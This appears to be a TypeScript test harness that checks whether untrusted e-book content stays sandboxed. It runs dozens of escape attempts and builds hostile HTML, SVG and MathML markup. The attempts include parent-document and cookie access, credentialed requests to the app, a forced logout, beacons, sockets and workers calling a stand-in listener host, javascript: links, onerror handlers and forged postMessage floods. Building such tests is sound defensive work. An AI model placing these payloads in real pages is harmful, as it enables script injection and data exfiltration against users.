/** What an attack knows of the world: the app, its media host, and a stranger who listens. */
export type Targets = { app: string; media: string; out: string }

/**
 * Everything that a script of a work could try (security.md#books), all at once. Stands alone, so that it
 * runs as part of a page as well as inside a frame.
 *
 * @returns by attempt: `refused`, or what came of it
 */
export async function attack({ app, media, out }: Targets): Promise<Record<string, string>> {
  const results: Record<string, string> = {}
  const patience = 1500
  const load = (tag: string, url: string, attribute = 'src') =>
    new Promise((resolve, reject) => {
      const element = document.createElement(tag)
      element.onload = () => resolve('loaded')
      element.oncanplay = () => resolve('loaded')
      element.onerror = () => reject(new Error('refused'))
      setTimeout(() => reject(new Error('late')), patience)
      element.setAttribute(attribute, url)
      document.body.append(element)
    })
  const link = (rel: string, url: string, as = '') =>
    new Promise((resolve, reject) => {
      const element = Object.assign(document.createElement('link'), { rel, href: url, as })
      element.onload = () => resolve('loaded')
      element.onerror = () => reject(new Error('refused'))
      setTimeout(() => reject(new Error('late')), patience)
      document.head.append(element)
    })
  const frameOf = async (url: string) => {
    const before = document.querySelectorAll('iframe').length
    await load('iframe', url)
    const inner = document.querySelectorAll('iframe')[before]?.contentDocument
    // What cannot be looked into is the browser's own page about the refusal, or foreign.
    if (inner?.title) return inner.title
    throw new Error('refused')
  }
  const press = (element: HTMLElement) => {
    document.body.append(element)
    element.click()
    element.remove()
    throw new Error('judged by what follows')
  }
  const toLink = (href: string, target: string, ping = '') =>
    press(Object.assign(document.createElement('a'), { href, target, ping, textContent: 'x' }))
  const submit = (action: string, target: string, method: string) => {
    const form = Object.assign(document.createElement('form'), { action, target, method })
    document.body.append(form)
    form.submit()
    throw new Error('judged by what follows')
  }
  const style = (css: string) => {
    document.head.append(Object.assign(document.createElement('style'), { textContent: css }))
    throw new Error('judged by what follows')
  }
  const open = (url: string, name = '_blank') => {
    if (window.open(url, name) === null) throw new Error('refused')
    return 'opened'
  }
  const worker = (text: string) =>
    new Promise((resolve, reject) => {
      const made = new Worker(URL.createObjectURL(new Blob([text])))
      made.onmessage = ({ data }) => (data === 'refused' ? reject(new Error(data)) : resolve(data))
      made.onerror = () => reject(new Error('refused'))
      setTimeout(() => reject(new Error('late')), patience)
    })
  const post = (message: unknown) => {
    for (const to of [parent, top]) to?.postMessage(message, '*')
    throw new Error('judged by what follows')
  }
  const asks = async (act: () => unknown) => {
    const answer = await Promise.race([
      Promise.resolve(act()),
      new Promise((_, reject) => setTimeout(() => reject(new Error('late')), patience)),
    ])
    if (answer === 'denied' || answer === undefined || answer === false) throw new Error('refused')
    return answer
  }

  const attempts: Record<string, () => unknown> = {
    parentDocument: () => parent.document.title,
    topDocument: () => top?.document.title,
    parentStorage: () => parent.localStorage.length,
    parentDatabases: () => parent.indexedDB.databases(),
    parentCaches: () => parent.caches.keys(),
    parentFunction: () => (parent as unknown as { fetch: typeof fetch }).fetch('/'),
    frameElement: () => frameElement?.id ?? Promise.reject(new Error('refused')),
    opener: () => (opener as unknown) ?? Promise.reject(new Error('refused')),
    cookie: () => document.cookie || Promise.reject(new Error('refused')),
    fetchApp: async () =>
      (await fetch(`${app}/api/yomikura/config`, { credentials: 'include' })).status,
    fetchAppBlind: async () =>
      (await fetch(`${app}/logout`, { mode: 'no-cors', method: 'POST', credentials: 'include' }))
        .type,
    fetchMedia: async () => (await fetch(`${media}/healthz`)).status,
    fetchOut: async () => (await fetch(`${out}/fetch`, { mode: 'no-cors' })).type,
    fetchKept: async () => (await fetch(`${out}/alive`, { keepalive: true })).status,
    request: () =>
      new Promise((resolve, reject) => {
        const asked = new XMLHttpRequest()
        asked.onload = () => resolve(asked.status)
        asked.onerror = reject
        asked.open('GET', `${out}/xhr`)
        asked.send()
      }),
    beacon: () => {
      navigator.sendBeacon(`${out}/beacon`, 'x')
      throw new Error('judged by the stranger')
    },
    socketApp: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`${app.replace('http', 'ws')}/`)
        socket.onopen = () => resolve('open')
        socket.onerror = reject
      }),
    socketOut: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`${out.replace('http', 'ws')}/socket`)
        socket.onopen = () => resolve('open')
        socket.onerror = reject
      }),
    eventSource: () =>
      new Promise((resolve, reject) => {
        const source = new EventSource(`${out}/events`)
        source.onopen = () => resolve('open')
        source.onerror = reject
      }),
    importOut: () => import(/* @vite-ignore */ `${out}/module.js`),
    scriptApp: () => load('script', `${app}/sw.js`),
    scriptOut: () => load('script', `${out}/script.js`),
    imageApp: () => load('img', `${app}/icon.svg`),
    imageOut: () => load('img', `${out}/image.png`),
    videoOut: () => load('video', `${out}/film.mp4`),
    posterOut: () => load('video', `${out}/poster.png`, 'poster'),
    objectOut: () => load('object', `${out}/object.html`, 'data'),
    embedOut: () => load('embed', `${out}/embed.html`),
    frameApp: () => frameOf(`${app}/library`),
    frameOut: () => frameOf(`${out}/frame`),
    frameData: () => load('iframe', 'data:text/html,<title>x</title>').then(() => top?.name.length),
    styleOut: () => link('stylesheet', `${out}/style.css`),
    prefetch: () => link('prefetch', `${out}/prefetch`),
    preload: () => link('preload', `${out}/preload.js`, 'script'),
    modulePreload: () => link('modulepreload', `${out}/modulepreload.js`),
    prerender: () => link('prerender', `${out}/prerender`),
    manifest: () => link('manifest', `${out}/manifest.json`),
    icon: () => link('icon', `${out}/icon.png`),
    cssImport: () => style(`@import url("${out}/import.css"); @import "${app}/assets/x.css";`),
    cssUrl: () =>
      style(`body { background: url("${out}/background.png"); cursor: url("${out}/c.cur"), auto }`),
    cssFont: () => new FontFace('evil', `url("${out}/font.woff2")`).load().then(() => 'loaded'),
    speculation: () => {
      const rules = document.createElement('script')
      rules.type = 'speculationrules'
      rules.textContent = JSON.stringify({
        prefetch: [{ urls: [`${out}/speculated`], eagerness: 'immediate' }],
      })
      document.head.append(rules)
      throw new Error('judged by the stranger')
    },
    base: () => {
      document.head.append(Object.assign(document.createElement('base'), { href: `${out}/base/` }))
      const { href } = Object.assign(document.createElement('a'), { href: 'x' })
      if (!href.startsWith(out)) throw new Error('refused')
      return href
    },
    popup: () => open(`${app}/library`),
    popupOut: () => open(`${out}/popup`),
    popupData: () => open('data:text/html,x'),
    topByName: () => open(`${out}/top`, '_top'),
    topNavigation: () => {
      if (top) top.location.href = `${app}/clear.html`
      throw new Error('judged by the address')
    },
    topScript: () => {
      if (top) top.location.href = 'javascript:globalThis.reached=1'
      throw new Error('judged by the app')
    },
    linkTop: () => toLink(`${out}/link-top`, '_top'),
    linkParent: () => toLink(`${app}/clear.html`, '_parent'),
    linkBlank: () => toLink(`${out}/link-blank`, '_blank', `${out}/ping`),
    linkScript: () => toLink('javascript:top.reached=1', '_top'),
    linkData: () => toLink('data:text/html,x', '_top'),
    download: () =>
      press(
        Object.assign(document.createElement('a'), {
          href: URL.createObjectURL(new Blob(['x'])),
          download: 'evil.exe',
        }),
      ),
    formApp: () => submit(`${app}/logout`, '', 'post'),
    formTop: () => submit(`${out}/form`, '_top', 'post'),
    formBlank: () => submit(`${out}/form-blank`, '_blank', 'get'),
    serviceWorker: () => navigator.serviceWorker.register('sw.js'),
    worker: () =>
      worker(`fetch('${out}/worker').then(() => postMessage('out'), () => postMessage('refused'))`),
    workerImport: () =>
      worker(
        `try { importScripts('${out}/w.js'); postMessage('out') } catch { postMessage('refused') }`,
      ),
    modals: () => asks(() => confirm('x')),
    camera: () => asks(() => navigator.mediaDevices.getUserMedia({ video: true })),
    screen: () => asks(() => navigator.mediaDevices.getDisplayMedia()),
    place: () =>
      asks(
        () =>
          new Promise((resolve, reject) =>
            navigator.geolocation.getCurrentPosition(resolve, reject),
          ),
      ),
    notices: () =>
      asks(async () => {
        const answer = await Notification.requestPermission()
        // A browser without windows has no place to ask in, and decides nothing: nothing is granted.
        return answer === 'default' ? undefined : answer
      }),
    clipboardRead: () => asks(() => navigator.clipboard.readText()),
    storageAccess: () =>
      asks(() => document.requestStorageAccess().then(() => document.cookie || undefined)),
    payment: () =>
      asks(() =>
        new PaymentRequest([{ supportedMethods: `${out}/pay` }], {
          total: { label: 'x', amount: { currency: 'JPY', value: '1' } },
        }).canMakePayment(),
      ),
    devices: () =>
      asks(() => (navigator as unknown as { usb: { getDevices(): unknown } }).usb.getDevices()),
    forgeSaves: () => post({ type: 'saves', saves: { a: { b: 1 } } }),
    forgeStart: () => post({ type: 'start', saves: {}, entry: 'javascript:alert(1)' }),
    forgePort: () => {
      const { port1 } = new MessageChannel()
      top?.postMessage({ type: 'ready' }, '*', [port1])
      throw new Error('judged by what follows')
    },
    flood: () => {
      for (let index = 0; index < 3000; index++)
        parent.postMessage({ type: `x${index}`, saves: index }, '*')
      throw new Error('judged by what follows')
    },
  }
  await Promise.all(
    Object.entries(attempts).map(async ([name, act]) => {
      try {
        results[name] = String(await act())
      } catch {
        results[name] = 'refused'
      }
    }),
  )
  return results
}

/** What only markup can try, for carriers whose scripts never run. */
export const toHostileHead = ({ out }: Targets) =>
  [
    `<link rel="stylesheet" href="${out}/head.css"/>`,
    ...[
      'preconnect',
      'dns-prefetch',
      'prefetch',
      'preload',
      'modulepreload',
      'prerender',
      'icon',
    ].map((rel) => `<link rel="${rel}" href="${out}/${rel}"/>`),
    `<meta http-equiv="refresh" content="0;url=${out}/refresh"/>`,
    `<base href="${out}/base/" target="_top"/>`,
    `<script src="${out}/head.js"></script><script>top.reached = 1</script>`,
    `<style>@import url("${out}/import.css"); @font-face { font-family: e; src: url("${out}/f.otf") }
      body { font-family: e; background: url("${out}/css.png"), image-set("${out}/set.png" 1x) }</style>`,
  ].join('')

export const toHostileBody = ({ app, out }: Targets) => `
<p onclick="top.reached=1" style="background:url(${out}/style.png)">無害に見える文。</p>
<script>top.reached = 1; fetch("${out}/inline"); localStorage.setItem("reached", "1")</script>
<img src="x" onerror="top.reached=1" alt=""/><img src="${out}/img.png" srcset="${out}/set.png 2x" alt=""/>
<video src="${out}/v.mp4" poster="${out}/p.png"></video><audio src="${out}/a.mp3"></audio>
<picture><source srcset="${out}/source.png"/></picture><input type="image" src="${out}/input.png" alt=""/>
<iframe src="${app}/library"></iframe><iframe srcdoc="&lt;script&gt;top.reached=1&lt;/script&gt;"></iframe>
<object data="${out}/o.html"></object><embed src="${out}/e.html"/>
<form action="${app}/logout" method="post"><button id="send">送る</button></form>
<p><a id="script" href="javascript:top.reached=1">罠</a> <a id="data" href="data:text/html,x">罠</a>
<a id="out" href="${out}/link" target="_top" ping="${out}/ping">外</a></p>
${toHostileSvg({ app, out, media: '' })}
<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:top.reached=1"><mi>x</mi></math>`

export const toHostileSvg = ({ out }: Targets) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="70" height="100" onload="globalThis.reached=2">` +
  `<script>globalThis.reached=2;fetch("${out}/svg")</script><script href="${out}/svg.js"/>` +
  `<style>@import "${out}/svg.css"; rect { fill: url("${out}/fill.svg#f") }</style><rect width="9" height="9"/>` +
  `<image href="${out}/image.png"/><image xlink:href="${out}/ximage.png"/><use href="${out}/use.svg#a"/>` +
  `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${out}/foreign"/></foreignObject>` +
  `<a href="javascript:top.reached=1"><set attributeName="href" to="javascript:top.reached=1"/><text y="20">x</text></a></svg>`
